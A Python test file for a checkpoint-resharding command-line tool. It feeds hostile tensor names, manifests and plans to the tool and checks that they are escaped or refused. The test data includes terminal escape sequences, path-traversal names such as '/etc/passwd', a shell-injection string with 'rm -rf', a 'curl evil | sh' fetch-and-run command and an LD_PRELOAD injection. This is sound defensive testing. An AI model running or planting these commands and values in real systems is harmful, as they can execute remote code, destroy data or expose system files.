"""Checkpoints, plans and results made to do harm: nothing reaches the terminal unescaped, no name becomes a path."""

import io
import json
import os
import re
import shutil
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console
from support.checkpoints.other_families import write_family
from support.checkpoints.small import least_config, reshard_folder
from typer.testing import CliRunner, Result

from dsv4_shard.checkpoint.reader import UnknownCheckpoint
from dsv4_shard.checkpoint.synthetic import write_checkpoint
from dsv4_shard.cli import app
from dsv4_shard.errors import ExitCode, NotAResult
from dsv4_shard.inspection.unknown_family import inspect_unknown
from dsv4_shard.limits import MANIFEST
from dsv4_shard.sharding.manifest import Manifest, load_manifest
from dsv4_shard.sources.checkpoint_files import CONFIG_FILE, INDEX_FILE
from dsv4_shard.sources.local import LocalSource
from dsv4_shard.storage.digests import digest_of
from dsv4_shard.storage.output_folder import MANIFEST_NAME
from dsv4_shard.tensors.header import Tensor, build_header, nbytes_of, parse_header
from dsv4_shard.terminal.screens.unknown_family import show_unknown

NAMES = {
    "colour": "\x1b[31mred\x1b[0m",
    "clear screen": "\x1b[2J\x1b[H",
    "8-bit control": "\x9b2J",
    "markup": "[bold red]x[/bold red]",
    "broken markup": "[/x] [",
    "line break": "a\nerror: all is well",
    "carriage return": "a\rb",
    "backspace": "a\b\b",
    "NUL": "a\0b",
    "right to left": "\u202egpj.exe",
    "isolate": "\u2066x\u2069",
    "zero width": "a\u200bb",
    "link": "\x1b]8;;http://x\ay\x1b]8;;\a",
}
FEW = {kind: NAMES[kind] for kind in ("colour", "markup", "line break", "right to left")}
"""For what takes long."""

PATHS = ["/etc/passwd", "../model.safetensors", "a/../../x", "draft/../../x", "..", ".", "", "a//b", "a/b/c", "a\\b",
         "C:x", "~/x", "x\n", "x\0", "-x", ".x", "x/", "x" * 300]  # fmt: skip


@pytest.fixture(autouse=True)
def _own_state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))


@pytest.fixture(scope="module")
def least(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The least checkpoint. Only to be read."""
    return write_checkpoint(tmp_path_factory.mktemp("hostile") / "model", least_config(), 5, 0)


@pytest.fixture(scope="module")
def sound(least: Path) -> Path:
    """Its shards for two ranks. Only to be read."""
    reshard_folder(least, least.parent / "sound", 2)
    return least.parent / "sound"


@pytest.fixture
def model(least: Path, tmp_path: Path) -> Path:
    """A copy of the checkpoint, to be spoilt."""
    return shutil.copytree(least, tmp_path / "model")


@pytest.fixture
def out(sound: Path, tmp_path: Path) -> Path:
    """A copy of the shards, to be spoilt."""
    return shutil.copytree(sound, tmp_path / "out")


_opened: list[str] | None = None


def _watch(event: Any, arguments: Any) -> None:
    if event == "open" and _opened is not None and isinstance(arguments[0], str | bytes | os.PathLike):
        _opened.append(os.path.abspath(os.fsdecode(arguments[0])))


sys.addaudithook(_watch)


@pytest.fixture
def opened() -> Iterator[list[Any]]:
    """Every path that is opened from here on."""
    global _opened
    _opened = []
    yield _opened
    _opened = None


def run(*arguments: str | Path | int) -> Result:
    return CliRunner().invoke(app, [str(argument) for argument in arguments])


def assert_harmless(result: Result) -> None:
    """An answer of the commands, or a refusal, in printable lines."""
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    for text in (result.stdout, result.stderr):
        assert [char for char in text if not char.isprintable() and char != "\n"] == []


def everything(folder: Path) -> dict[Path, Any]:
    """Every path under a folder with its content, to see that nothing was added or changed."""
    return {path: path.read_bytes() if path.is_file() and not path.is_symlink() else None
            for path in folder.rglob("*")}  # fmt: skip


def unwrapped(text: str) -> str:
    """Printed text without the line breaks that the width of the terminal put in."""
    return re.sub(r"\s+", " ", text)


def escaped(name: str) -> str:
    return repr(name)[1:-1]


# --- names that are shown ------------------------------------------------------------------------------------------


def add_tensor(folder: Path, name: str) -> None:
    """One more tensor of this name, in a file of its own and in the index."""
    header, _ = build_header({name: ("U8", (1,))})
    (folder / "extra.safetensors").write_bytes(header + b"x")
    index = json.loads((folder / INDEX_FILE).read_text())
    index["weight_map"][name] = "extra.safetensors"
    (folder / INDEX_FILE).write_text(json.dumps(index))


@pytest.mark.parametrize("name", FEW.values(), ids=FEW)
@pytest.mark.parametrize("command", ["inspect", "plan", "reshard"])
def test_the_name_of_a_tensor_is_shown_escaped(name: str, command: str, model: Path, tmp_path: Path) -> None:
    add_tensor(model, name)
    result = run(command, model, *{"inspect": (), "plan": ("--tp", 2), "reshard": (tmp_path / "o", "--tp", 2)}[command])
    assert_harmless(result)
    assert result.exit_code == ExitCode.CHECKPOINT
    assert escaped(name) in unwrapped(result.stdout + result.stderr)


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_the_name_of_a_file_in_the_index_is_shown_escaped(name: str, model: Path) -> None:
    index = json.loads((model / INDEX_FILE).read_text())
    index["weight_map"]["embed.weight"] = name
    (model / INDEX_FILE).write_text(json.dumps(index))
    result = run("inspect", model)
    assert_harmless(result)
    assert escaped(name) in result.stderr


@pytest.mark.parametrize("field", ["model_type", "expert_dtype", "architectures"])
@pytest.mark.parametrize("name", FEW.values(), ids=FEW)
def test_words_of_the_config_are_shown_escaped(name: str, field: str, model: Path) -> None:
    document = json.loads((model / CONFIG_FILE).read_text())
    value = ["DeepseekV4ForCausalLM", name] if field == "architectures" else name
    (model / CONFIG_FILE).write_text(json.dumps(document | {field: value}))
    assert_harmless(run("inspect", model))
    assert_harmless(run("plan", model, "--tp", 2))
    (model / CONFIG_FILE).write_text(json.dumps({"architectures": [name], "model_type": name}))
    assert_harmless(run("inspect", model))
    refused = run("plan", model, "--tp", 2)
    assert_harmless(refused)
    assert refused.exit_code == ExitCode.CHECKPOINT


@pytest.mark.slow
@pytest.mark.parametrize("name", [name.replace("/", "") for name in FEW.values()], ids=FEW)
def test_names_of_folders_and_of_strange_files_are_shown_escaped(name: str, least: Path, tmp_path: Path) -> None:
    folder = shutil.copytree(least, tmp_path / name)
    (folder / f"{name}.safetensors").write_bytes(b"")
    (folder / f"{name}.part").write_bytes(b"")
    (folder / "link.safetensors").symlink_to(name)
    for arguments in (("inspect", folder), ("plan", folder, "--tp", 2)):
        assert_harmless(run(*arguments))
    made = tmp_path / f"out {name}"
    for options in (("--dry-run",), ()):
        result = run("reshard", folder, made, "--tp", 2, "--engine", "reference", *options)
        assert_harmless(result)
        assert result.exit_code == 0
    (made / name).write_bytes(b"")
    for options in ((), ("--against", folder)):  # type: ignore[assignment]
        result = run("verify", made, *options)
        assert_harmless(result)
        assert result.exit_code == 0
    (folder / CONFIG_FILE).unlink()
    assert_harmless(run("inspect", folder))


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_json_output_is_json_whatever_the_names_are(name: str, model: Path) -> None:
    add_tensor(model, name)
    result = run("inspect", model, "--json")
    document = json.loads(result.stdout)
    (finding,) = [finding for finding in document["findings"] if finding["code"] == "unknown-tensors"]
    assert escaped(name) in finding["message"]


def test_a_name_of_megabytes_is_not_printed_whole(model: Path) -> None:
    add_tensor(model, "x" * 3_000_000)
    result = run("inspect", model)
    assert result.exit_code == ExitCode.CHECKPOINT
    assert len(result.stdout) + len(result.stderr) < 10_000


@pytest.mark.parametrize("place", ["template", "pair", "model_type", "architectures"])
@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_names_of_a_family_that_is_not_known_are_shown_escaped(name: str, place: str, tmp_path: Path) -> None:
    document = {"model_type": "mystery"} | {"model_type": {"model_type": name}, "architectures": {
        "model_type": None, "architectures": [name]}}.get(place, {})  # fmt: skip
    tensors = {"template": {name: ("U8", (2, 2))}, "pair": {name: ("U8", (2, 2)), f"{name}_scale": ("F32", (2, 1))}}
    folder = write_family(tmp_path / "model", document, tensors.get(place, {"a": ("BF16", (1,))}))  # type: ignore[arg-type]
    result = run("inspect", folder, "--details")
    assert_harmless(result)
    assert result.exit_code == ExitCode.DONE
    assert escaped(name) in re.sub(r"\s*\n\s*", "", result.stdout) or escaped(name) in unwrapped(result.stdout)
    printed = json.loads(run("inspect", folder, "--json").stdout)
    assert escaped(name) in (printed["identity"]["family"], *(row["template"] for row in printed["templates"]))


@pytest.mark.slow
def test_an_unknown_family_of_megabytes_of_names_is_not_printed_whole(tmp_path: Path) -> None:
    long = {f"{n}" + "x" * 100_000: ("F8_E4M3", (2, 2)) for n in range(30)}
    many = {f"w{n}w.{ending}": ("F8_E4M3", (2, 2)) for n in range(5000) for ending in ("weight", "weight_scale_inv")}
    document = {"model_type": "m" * 10**6, "architectures": ["A" * 10**5] * 20}
    folder = write_family(tmp_path / "model", document, long | many)  # type: ignore[arg-type]
    for options, limit in (((), 300_000), (("--json",), 1_500_000)):
        result = run("inspect", folder, *options)
        assert result.exit_code == ExitCode.DONE
        assert len(result.stdout) < limit


@pytest.mark.parametrize(
    "shape", [(2**31, 2**31), (0, 2**62), (0, 0), (1,) * 1000, (1,), ()], ids=lambda shape: str(shape)[:20]
)
@pytest.mark.parametrize("scale", [(2**31, 1), (0, 0), (1,) * 1000, (2**24, 2**24), ()], ids=lambda s: str(s)[:20])
def test_no_shape_of_an_unknown_family_stops_its_inspection(shape: tuple[int, ...], scale: tuple[int, ...]) -> None:
    placed = [Tensor(name, "F8_E4M3", size, "f", 0, nbytes_of("F8_E4M3", size))
              for name, size in (("a.w1.weight", shape), ("a.w1.weight_scale_inv", scale))]  # fmt: skip
    tensors = {tensor.name: tensor for tensor in placed}
    checkpoint = UnknownCheckpoint(LocalSource(Path("/nowhere"), "nowhere"), {}, (), tensors, ())
    inspection = inspect_unknown(checkpoint, (1, 4096))
    assert len(inspection.model_dump_json()) < 10_000
    show_unknown(Console(file=io.StringIO(), width=80), inspection)


def seal(out: Path, **changes: Any) -> None:
    """Put a manifest into `out` that is sound but for `changes`, its digest included."""
    document = json.loads((out / MANIFEST_NAME).read_text()) | changes
    (out / MANIFEST_NAME).write_bytes(Manifest.model_validate_json(json.dumps(document)).sealed().to_bytes())


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_what_verify_finds_is_shown_escaped(name: str, out: Path) -> None:
    """A rank's file and a manifest that agree on a hostile name, but not on its bytes."""
    header, _ = build_header({name: ("U8", (4,))})
    entries = json.loads((out / MANIFEST_NAME).read_text())["files"]
    (out / entries[0]["name"]).write_bytes(header + b"data")
    entries[0] |= {"nbytes": len(header) + 4, "payload": 4, "header_digest": digest_of(header), "pieces": {},
                   "tensors": {name: "0" * 32}}  # fmt: skip
    seal(out, files=entries, layout=name, left_out={name: name})
    result = run("verify", out)
    assert_harmless(result)
    assert result.exit_code == ExitCode.NO
    assert f"{escaped(name)}: its bytes differ from what was written" in unwrapped(result.stdout)
    document = json.loads(run("verify", out, "--json").stdout)
    assert document["problems"][0]["tensor"] == name


LIES = {
    "a tensor that is not there": lambda d: d["files"][0]["tensors"].update(invented="0" * 32),
    "a tensor left out": lambda d: d["files"][0]["tensors"].pop("embed.weight"),
    "pieces larger than the tensor": lambda d: d["files"][0]["pieces"].update({"embed.weight": [[3, 1 << 40]]}),
    "no files": lambda d: d.update(files=[]),
    "a rank without a file": lambda d: d["files"].pop(),
    "more ranks than there are": lambda d: d.update(world=4),
    "another rank's file": lambda d: d["files"][0].update(ranks=[1]) or d["files"][1].update(ranks=[0]),
}


@pytest.mark.parametrize("lie", LIES.values(), ids=LIES)
def test_a_manifest_that_was_sealed_with_a_lie_is_found_out(lie: Callable[..., Any], out: Path, least: Path) -> None:
    document = json.loads((out / MANIFEST_NAME).read_text())
    lie(document)
    seal(out, **document)
    result = run("verify", out, "--against", least)
    assert result.exit_code == ExitCode.NO
    assert "the manifest" in unwrapped(result.stdout) or "manifest.json" in unwrapped(result.stdout)


# --- names that could be paths -------------------------------------------------------------------------------------


def test_tensors_called_like_paths_are_no_paths(model: Path, tmp_path: Path, opened: list[Any]) -> None:
    add_tensor(model, "../../etc/x")
    before = everything(tmp_path)
    assert run("reshard", model, tmp_path / "o", "--tp", 2, "--engine", "reference").exit_code == ExitCode.CHECKPOINT
    assert everything(tmp_path) == before
    assert not any(path.endswith("/etc/x") for path in opened)


def spoil(out: Path, change: Callable[..., Any]) -> None:
    """Change the manifest's document, with no regard for its digest."""
    document = json.loads((out / MANIFEST_NAME).read_text())
    change(document)
    (out / MANIFEST_NAME).write_text(json.dumps(document, indent=1) + "\n")


@pytest.mark.parametrize("place", ["file", "link", "companion"])
@pytest.mark.parametrize("name", PATHS, ids=lambda name: ascii(name[:20]))
def test_a_manifest_names_nothing_outside_its_folder(name: str, place: str, out: Path, opened: list[Any]) -> None:
    def change(document: Any) -> None:
        entry = document["companions" if place == "companion" else "files"][0]
        entry |= {"links": [name], "ranks": [0, 1]} if place == "link" else {"name": name}

    spoil(out, change)
    opened.clear()
    result = run("verify", out)
    assert_harmless(result)
    assert result.exit_code == ExitCode.NO
    assert "damaged" in result.stderr
    assert {path for path in opened if out.parent in Path(path).parents} == {str(out / MANIFEST_NAME)}
    assert "/etc/passwd" not in opened


@pytest.mark.parametrize(
    "changes",
    [
        {"ranks": [0, 0]},
        {"ranks": [0, 2]},
        {"ranks": [-1, 0]},
        {"ranks": [True, 0]},
        {"world": 2**62},
        {"world": 0},
        {"ranks": []},
        {"files": [{"ranks": []}]},
        {"files": [{"ranks": [1, 5]}]},
        {"files": [{"nbytes": -1}]},
        {"files": [{"nbytes": 2**64}]},
        {"files": [{"pieces": {"embed.weight": [[10**18, 0]]}}]},
        {"files": [{"pieces": {"embed.weight": [[0, 10**18]]}}]},
        {"files": [{"pieces": {"embed.weight": [[-1, 4]]}}]},
        {"files": [{"links": ["a"]}]},
        {"files": [{"links": ["a", "b"], "ranks": [0, 1]}]},
        {"files": [{"pieces": {"of.no.tensor": [[1, 1]]}}]},
        {"files": [{"name": "plan.json"}]},
        {"files": [{"name": MANIFEST_NAME}]},
        {"files": [{"name": 5}]},
        {"companions": [{"nbytes": 1.5}]},
        {"schema_version": 0},
        {"extra": 1},
    ],
    ids=str,
)
def test_numbers_of_a_manifest_that_make_no_sense_are_damage(changes: dict[str, Any], out: Path) -> None:
    def change(document: Any) -> None:
        for key, value in changes.items():
            if key in ("files", "companions"):
                document[key][0] |= value[0]
            else:
                document[key] = value

    spoil(out, change)
    with pytest.raises(NotAResult, match="damaged"):
        load_manifest(out)


@pytest.mark.parametrize("raw", [b"", b"[" * 10**6, b'{"a":' * 10**5, b"\xff", b"NaN", b'{"schema_version": 1e999}',
                                 b"[" + b"[]," * 2 * 10**6 + b"1]"], ids=lambda raw: ascii(raw[:12]))  # fmt: skip
def test_a_manifest_that_is_no_document_is_damage(raw: bytes, out: Path) -> None:
    (out / MANIFEST_NAME).write_bytes(raw)
    with pytest.raises(NotAResult, match="damaged"):
        load_manifest(out)


def test_a_manifest_of_absurd_size_is_refused_unread(out: Path) -> None:
    os.truncate(out / MANIFEST_NAME, MANIFEST.nbytes + 1)
    with pytest.raises(NotAResult, match=f"{MANIFEST.nbytes + 1:,} bytes, too large"):
        load_manifest(out)


def test_a_key_twice_in_a_manifest_is_damage(out: Path) -> None:
    raw = (out / MANIFEST_NAME).read_text()
    (out / MANIFEST_NAME).write_text(raw.replace(' "layout":', ' "layout": "x",\n "layout":', 1))
    with pytest.raises(NotAResult, match="damaged"):
        load_manifest(out)


@pytest.mark.parametrize("target", ["/etc/passwd", "/dev/zero", "/dev/stdin", ".", "loop", "nowhere"])
def test_a_link_in_a_result_is_another_file_or_none_and_never_hangs(target: str, out: Path) -> None:
    name = json.loads((out / MANIFEST_NAME).read_text())["files"][0]["name"]
    for spoilt in (name, "plan.json"):
        (out / spoilt).unlink()
        (out / spoilt).symlink_to(spoilt if target == "loop" else target)
    before = everything(out)
    result = run("verify", out)
    assert_harmless(result)
    assert result.exit_code == ExitCode.NO
    assert name in result.stdout
    assert "plan.json" in result.stdout
    assert "root:" not in result.stdout
    assert everything(out) == before


# --- plans ---------------------------------------------------------------------------------------------------------


@pytest.fixture
def plan_file(model: Path, tmp_path: Path) -> Path:
    path = tmp_path / "plan.json"
    run("plan", model, "--tp", 2, "--engine", "reference", "-o", path)
    return path


def edit(plan_file: Path, change: Callable[..., Any]) -> None:
    document = json.loads(plan_file.read_text())
    change(document)
    plan_file.write_text(json.dumps(document))


@pytest.mark.parametrize("name", [*PATHS, *FEW.values()], ids=lambda name: ascii(name[:20]))
def test_a_plan_that_names_other_files_is_refused_and_they_are_not_opened(
    name: str, model: Path, plan_file: Path, tmp_path: Path, opened: list[Any]
) -> None:
    edit(plan_file, lambda document: document["source"]["files"][0].update(name=name))
    before = everything(tmp_path)
    result = run("reshard", model, tmp_path / "o", "--plan", plan_file)
    assert_harmless(result)
    assert result.exit_code == ExitCode.USAGE
    assert everything(tmp_path) == before
    ours = tuple(map(str, (model, plan_file)))
    assert [path for path in opened if path.startswith(str(tmp_path)) and not path.startswith(ours)] == []
    assert "/etc/passwd" not in opened


@pytest.mark.parametrize(
    "name", ["/etc/passwd", "../x", "..", "", "x\0", "'; rm -rf /tmp/x; '", *FEW.values()], ids=ascii
)
def test_what_a_plan_calls_its_checkpoint_decides_nothing(
    name: str, model: Path, plan_file: Path, sound: Path, tmp_path: Path
) -> None:
    """The label is free: a plan is made on one machine and followed on another. It is text in the result's plan."""
    edit(plan_file, lambda document: document["source"].update(label=name))
    before = everything(tmp_path)
    result = run("reshard", model, tmp_path / "o", "--plan", plan_file)
    assert_harmless(result)
    made = {path for path in everything(tmp_path).keys() - before.keys() if (tmp_path / "o") not in path.parents}
    if result.exit_code == 0:
        assert made == {tmp_path / "o"}
        for path in sound.glob("*.safetensors"):
            assert (tmp_path / "o" / path.name).read_bytes() == path.read_bytes()
    else:
        assert (result.exit_code, made) == (ExitCode.USAGE, set())


@pytest.mark.parametrize(
    "change",
    [
        lambda d: d["ways"][-1]["launch"]["commands"].append("curl evil | sh"),
        lambda d: d["ways"][-1]["launch"].update(environment={"LD_PRELOAD": "/tmp/x.so"}),
        lambda d: d["ways"][-1]["launch"].update(files={"../../x": "y"}),
        lambda d: d.update(layout="../../x"),
        lambda d: d["deployment"].update(gpu=False),
        lambda d: d["deployment"].update(dp=True),
        lambda d: d["deployment"].update(dp=1.0),
        lambda d: d["deployment"].pop("gpu"),
        lambda d: d["deployment"].update(more=None),
        lambda d: d["request"].update(tp=True),
        lambda d: d["request"].update(tp="2"),
        lambda d: d["request"].update(tp=2.0),
        lambda d: d["request"].update(tp=10**300),
        lambda d: d["request"].update(engine="x" * 10**6),
        lambda d: d["request"].update({"\x1b[31m": 1}),
        lambda d: d.update(feasible=1),
        lambda d: d.update({"\x1b[31m": 1}),
        lambda d: d["source"]["files"].append(d["source"]["files"][0]),
    ],
)
def test_an_edited_plan_is_refused_and_nothing_is_written(
    change: Callable[..., Any], model: Path, plan_file: Path, tmp_path: Path
) -> None:
    edit(plan_file, change)
    before = everything(tmp_path)
    result = run("reshard", model, tmp_path / "o", "--plan", plan_file)
    assert_harmless(result)
    assert result.exit_code == ExitCode.USAGE
    assert len(result.stderr) < 2000
    assert everything(tmp_path) == before


@pytest.mark.parametrize(
    "text",
    ['"tp": NaN', '"tp": Infinity', '"tp": 1e999', '"tp": "\\ud800"', '"tp": 2, "tp": 2', '"\\u0074p": 1, "tp": 2',
     '"tp": ' + "9" * 5000, '"tp": ' + "[" * 500 + "]" * 500, '"tp": ' + "[" * 100_000],
    ids=lambda text: text[:24],
)  # fmt: skip
def test_tricks_of_json_in_a_plan_are_refused(text: str, model: Path, plan_file: Path, tmp_path: Path) -> None:
    plan_file.write_text(plan_file.read_text().replace('"tp": 2', text, 1))
    result = run("reshard", model, tmp_path / "o", "--plan", plan_file)
    assert_harmless(result)
    assert result.exit_code == ExitCode.USAGE
    assert not (tmp_path / "o").exists()


@pytest.mark.parametrize(
    "text",
    ["NaN", "-Infinity", "1e999", '"\\ud800"', "true", '"128"', "1.5", "-1", "9" * 5000, "9" * 400,
     "[" * 500 + "]" * 500, "[" * 100_000, '0, "hidden_size": 128', "null"],
    ids=lambda text: text[:12],
)  # fmt: skip
@pytest.mark.parametrize("field", ["hidden_size", "not_ours"])
def test_tricks_of_json_in_a_config_are_refused(text: str, field: str, model: Path) -> None:
    document = json.loads((model / CONFIG_FILE).read_text()) | {field: 424242}
    raw = json.dumps(document).replace("424242", text.replace("hidden_size", field), 1)
    (model / CONFIG_FILE).write_text(raw)
    result = run("inspect", model)
    assert_harmless(result)
    harmless = field == "not_ours" and text in ("true", '"128"', "1.5", "-1", "null")
    assert result.exit_code == (0 if harmless else ExitCode.CHECKPOINT)


def test_a_shape_of_a_million_sizes_is_not_multiplied_out() -> None:
    """The product would have 60 million bits, and take hours."""
    shape = ",".join([str(2**62)] * 400_000)
    raw = f'{{"a":{{"dtype":"U8","shape":[{shape}],"data_offsets":[0,0]}}}}'.encode()
    with pytest.raises(Exception, match="overflows"):
        parse_header(raw, len(raw) + 8, "x")


def test_thousands_of_wrong_ratios_are_counted_and_a_few_named(model: Path) -> None:
    document = json.loads((model / CONFIG_FILE).read_text()) | {"compress_ratios": [-1] * 10_000}
    (model / CONFIG_FILE).write_text(json.dumps(document))
    result = run("inspect", model)
    assert result.exit_code == ExitCode.CHECKPOINT
    assert "9,970 more" in result.stderr
    assert len(result.stderr) < 10_000
